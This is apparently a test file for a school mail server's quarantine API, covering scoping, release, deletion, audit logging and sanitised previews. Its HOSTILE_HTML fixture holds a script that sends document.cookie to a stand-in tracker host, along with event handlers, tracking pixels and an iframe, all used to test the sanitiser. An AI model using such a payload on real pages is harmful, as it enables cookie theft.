import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApi, type ApiClient, type TestApi } from '../support/api.js';
import { seedDistricts, type Districts } from '../support/fixtures.js';
import { blobStoreFor, makeAccount, quarantineMessage } from '../support/acceptance.js';
import { adminWithSets } from '../support/addressing.js';

const WEST = 'west.district1.k12.us';
const EAST = 'east.district1.k12.us';
const D2 = 'district2.k12.us';

const HOSTILE_HTML = [
  '<html><head><style>body{background:url(http://tracker.example/css.png)}</style><script>document.location="http://tracker.example/?c="+document.cookie</script></head>',
  '<body onload="beacon()"><p onclick="x()" style="background-image:url(https://tracker.example/p.png)">You won a <b>prize</b></p>',
  '<img src="http://tracker.example/pixel.gif" width="1" height="1"><img src="https://tracker.example/logo.png">',
  '<iframe src="https://tracker.example/frame"></iframe><object data="https://tracker.example/x.swf"></object>',
  '<a href="https://district1.k12.us/help">help</a></body></html>',
].join('\r\n');

function message(subject: string, to: string, html?: string) {
  const head = `From: Stranger <stranger@outside.example>\r\nTo: ${to}\r\nSubject: ${subject}\r\nMessage-ID: <${subject.replace(/\W/g, '')}@outside.example>\r\nMIME-Version: 1.0\r\n`;
  if (!html) return `${head}Content-Type: text/plain; charset=utf-8\r\n\r\nsome bad words here\r\n`;
  return `${head}Content-Type: multipart/alternative; boundary="xx"\r\n\r\n--xx\r\nContent-Type: text/plain\r\n\r\nYou won a prize\r\n--xx\r\nContent-Type: text/html\r\n\r\n${html}\r\n--xx--\r\n`;
}

let api: TestApi;
let people: Districts;
let readOnly: ApiClient;
const ids: Record<string, string> = {};

beforeAll(async () => {
  api = await startTestApi();
  people = await seedDistricts(api);
  await makeAccount(api.prisma, `student@${WEST}`);
  await makeAccount(api.prisma, `teacher@${EAST}`);
  await makeAccount(api.prisma, `kid@${D2}`);
  const blobs = blobStoreFor(api.prisma);
  const hold = async (key: string, recipient: string, html?: string) => {
    ids[key] = String(await quarantineMessage(api.prisma, blobs, { raw: message(key, recipient, html), sender: 'stranger@outside.example', recipient, subject: key, matches: [{ list: 'student-safe', scope: 'system', entry: 'bad words' }] }));
  };
  await hold('west-hostile', `student@${WEST}`, HOSTILE_HTML);
  await hold('west-plain', `student@${WEST}`);
  await hold('west-third', `student@${WEST}`);
  await hold('east', `teacher@${EAST}`);
  await hold('district2', `kid@${D2}`);
  readOnly = await adminWithSets(api, 'reader', [{ name: 'read-only', domain: 'district1.k12.us', permissions: [{ action: 'read', subject: 'Account' }] }]);
});
afterAll(() => api?.close());

const subjects = (body: { items: Array<{ subject: string }> }) => body.items.map((e) => e.subject);
const inbox = (address: string) => api.prisma.mailboxMessage.findMany({ where: { folder: { name: 'INBOX', account: { address } } } });

describe('quarantine API', () => {
  it('lists entries in scope only, newest first', async () => {
    expect(subjects((await people.staff.get('/quarantine')).body)).toEqual(['district2', 'east', 'west-third', 'west-plain', 'west-hostile']);
    expect(subjects((await people.postmaster1.get('/quarantine')).body)).toEqual(['east', 'west-third', 'west-plain', 'west-hostile']);
    expect(subjects((await people.westAdmin.get('/quarantine')).body)).toEqual(['west-third', 'west-plain', 'west-hostile']);
    expect(subjects((await people.postmaster2.get('/quarantine')).body)).toEqual(['district2']);
    const one = (await people.westAdmin.get('/quarantine?limit=1')).body.items[0];
    expect(one).toMatchObject({ id: ids['west-third'], state: 'pending', direction: 'inbound', sender: 'stranger@outside.example', recipient: `student@${WEST}`, domain: WEST, decidedBy: null, decidedAt: null });
    expect(one.matches).toEqual([{ list: 'student-safe', scope: 'system', entry: 'bad words' }]);
    expect(one.size).toBeGreaterThan(0);
  });

  it('filters by recipient, sender, domain, state and time, and pages', async () => {
    expect(subjects((await people.postmaster1.get(`/quarantine?recipient=TEACHER@${EAST}`)).body)).toEqual(['east']);
    expect((await people.postmaster1.get('/quarantine?sender=Stranger@outside.example')).body.items).toHaveLength(4);
    expect((await people.postmaster1.get('/quarantine?sender=nobody@outside.example')).body.items).toHaveLength(0);
    expect(subjects((await people.postmaster1.get(`/quarantine?domain=${EAST}`)).body)).toEqual(['east']);
    expect((await people.westAdmin.get(`/quarantine?domain=${EAST}`)).status).toBe(404);
    expect((await people.postmaster1.get('/quarantine?state=released')).body.items).toEqual([]);
    expect((await people.postmaster1.get('/quarantine?state=held')).status).toBe(400);
    expect((await people.postmaster1.get(`/quarantine?since=${new Date(Date.now() + 60_000).toISOString()}`)).body.items).toEqual([]);
    const page1 = await people.postmaster1.get('/quarantine?limit=3');
    const page2 = await people.postmaster1.get(`/quarantine?limit=3&cursor=${page1.body.nextCursor}`);
    expect([...subjects(page1.body), ...subjects(page2.body)]).toEqual(['east', 'west-third', 'west-plain', 'west-hostile']);
    expect(page2.body.nextCursor).toBeNull();
    const graph = await people.postmaster1.graphql(`{ quarantine(domain: "${WEST}", limit: 2) { items { id state sender recipient domain subject matches size receivedAt decidedBy decidedAt direction } nextCursor } }`);
    expect(graph.data.quarantine).toEqual((await people.postmaster1.get(`/quarantine?domain=${WEST}&limit=2`)).body);
  });

  it('shows a preview with no script, handler, frame, style or remote content', async () => {
    const details = await people.westAdmin.get(`/quarantine/${ids['west-hostile']}`);
    expect(details.status).toBe(200);
    expect(details.body.matches).toEqual([{ list: 'student-safe', scope: 'system', entry: 'bad words' }]);
    expect(details.body.headers).toContainEqual({ name: 'Subject', value: 'west-hostile' });
    expect(details.body.headers).toContainEqual({ name: 'From', value: 'Stranger <stranger@outside.example>' });
    expect(details.body.preview.text).toContain('You won a prize');
    const html: string = details.body.preview.html;
    expect(html).toContain('You won a <b>prize</b>');
    expect(html).toContain('href="https://district1.k12.us/help"');
    for (const gone of ['<script', 'document.cookie', 'onload', 'onclick', 'tracker.example', '<img src="http', '<iframe', '<object', 'url(', '<style']) {
      expect(html, gone).not.toContain(gone);
    }
    const graph = await people.westAdmin.graphql(`query($id: String!) { quarantineEntry(id: $id) { subject headers { name value } preview { html text } previewUnavailable } }`, { id: ids['west-hostile'] });
    expect(graph.data.quarantineEntry.preview).toEqual({ html, text: details.body.preview.text });
  });

  it('answers 404 out of scope and 403 for an admin without update on accounts', async () => {
    expect((await people.westAdmin.get(`/quarantine/${ids.east}`)).status).toBe(404);
    expect((await people.postmaster2.post(`/quarantine/${ids['west-plain']}/release`)).status).toBe(404);
    expect((await people.postmaster2.post(`/quarantine/${ids['west-plain']}/delete`)).status).toBe(404);
    expect((await people.staff.get('/quarantine/not-a-number')).status).toBe(404);
    expect((await people.staff.get('/quarantine/99999999')).status).toBe(404);
    expect((await readOnly.get('/quarantine')).status).toBe(403);
    expect((await readOnly.post(`/quarantine/${ids['west-plain']}/release`)).status).toBe(403);
    const graph404 = await people.westAdmin.graphql(`mutation { releaseQuarantined(id: "${ids.east}") { state } }`);
    expect(graph404.errors![0]!.extensions.code).toBe('NOT_FOUND');
    const graph403 = await readOnly.graphql(`{ quarantine { items { id } } }`);
    expect(graph403.errors![0]!.extensions.code).toBe('FORBIDDEN');
    expect(await api.prisma.quarantineEntry.count({ where: { decision: { not: null } } })).toBe(0);
  });

  it('releases into the INBOX, records who decided and when, audited; a second release is 409', async () => {
    expect(await inbox(`student@${WEST}`)).toHaveLength(0);
    const released = await people.westAdmin.post(`/quarantine/${ids['west-plain']}/release`);
    expect(released.status).toBe(200);
    expect(released.body).toMatchObject({ id: ids['west-plain'], state: 'released', decidedBy: 'westadmin', decidedAt: expect.any(String) });
    const delivered = await inbox(`student@${WEST}`);
    expect(delivered).toHaveLength(1);
    const entry = await api.prisma.quarantineEntry.findUniqueOrThrow({ where: { id: BigInt(ids['west-plain']!) } });
    expect(delivered[0]!.blobId).toBe(entry.blobId);
    const audit = await api.prisma.auditEvent.findFirstOrThrow({ where: { action: 'quarantine.release' } });
    expect(audit).toMatchObject({ actorName: 'westadmin', subjectType: 'QuarantineEntry', subjectId: ids['west-plain'], domainPath: entry.domainPath });
    expect(audit.before).toMatchObject({ state: 'pending' });
    expect(audit.after).toMatchObject({ state: 'released', decidedBy: 'westadmin', deliveredTo: { uid: delivered[0]!.uid } });
    const again = await people.postmaster1.post(`/quarantine/${ids['west-plain']}/release`);
    expect(again.status).toBe(409);
    expect(again.body.detail).toContain('already released by westadmin');
    expect(await inbox(`student@${WEST}`)).toHaveLength(1);
    expect(subjects((await people.westAdmin.get('/quarantine?state=released')).body)).toEqual(['west-plain']);
  });

  it('deletes: never delivered nor shown again, audited', async () => {
    const deleted = await people.postmaster1.post(`/quarantine/${ids['west-hostile']}/delete`);
    expect(deleted.status).toBe(200);
    expect(deleted.body).toMatchObject({ state: 'deleted', decidedBy: 'pm1' });
    const details = await people.postmaster1.get(`/quarantine/${ids['west-hostile']}`);
    expect(details.body).toMatchObject({ state: 'deleted', preview: null, headers: [], previewUnavailable: 'the message was deleted' });
    expect((await people.postmaster1.post(`/quarantine/${ids['west-hostile']}/release`)).status).toBe(409);
    expect(await inbox(`student@${WEST}`)).toHaveLength(1);
    expect(await api.prisma.auditEvent.count({ where: { action: 'quarantine.delete', actorName: 'pm1' } })).toBe(1);
    expect(subjects((await people.westAdmin.get('/quarantine?state=deleted')).body)).toEqual(['west-hostile']);
  });

  it('acts on several entries at once, reporting each outcome, the same through GraphQL', async () => {
    const response = await people.postmaster1.post('/quarantine/actions', { action: 'release', ids: [ids['west-third'], ids['west-plain'], ids.district2, '424242', ids.east] });
    expect(response.status).toBe(200);
    expect(response.body).toEqual({
      action: 'release',
      affected: 2,
      results: [
        { id: ids['west-third'], outcome: 'released' },
        { id: ids['west-plain'], outcome: 'already_decided', detail: expect.stringContaining('already released') },
        { id: ids.district2, outcome: 'not_found', detail: expect.any(String) },
        { id: '424242', outcome: 'not_found', detail: expect.any(String) },
        { id: ids.east, outcome: 'released' },
      ],
    });
    expect(await inbox(`student@${WEST}`)).toHaveLength(2);
    expect(await inbox(`teacher@${EAST}`)).toHaveLength(1);
    expect(await inbox(`kid@${D2}`)).toHaveLength(0);
    expect((await people.postmaster1.post('/quarantine/actions', { action: 'bounce', ids: ['1'] })).body.errors[0].field).toBe('action');
    expect((await people.postmaster1.post('/quarantine/actions', { action: 'delete', ids: [] })).body.errors[0].field).toBe('ids');
    const graph = await people.postmaster2.graphql(`mutation { quarantineAction(action: "delete", ids: ["${ids.district2}", "${ids.east}"]) { action affected results { id outcome } } }`);
    expect(graph.data.quarantineAction).toEqual({ action: 'delete', affected: 1, results: [{ id: ids.district2, outcome: 'deleted' }, { id: ids.east, outcome: 'not_found' }] });
    expect(await api.prisma.auditEvent.count({ where: { action: { startsWith: 'quarantine.' } } })).toBe(5);
  });
});
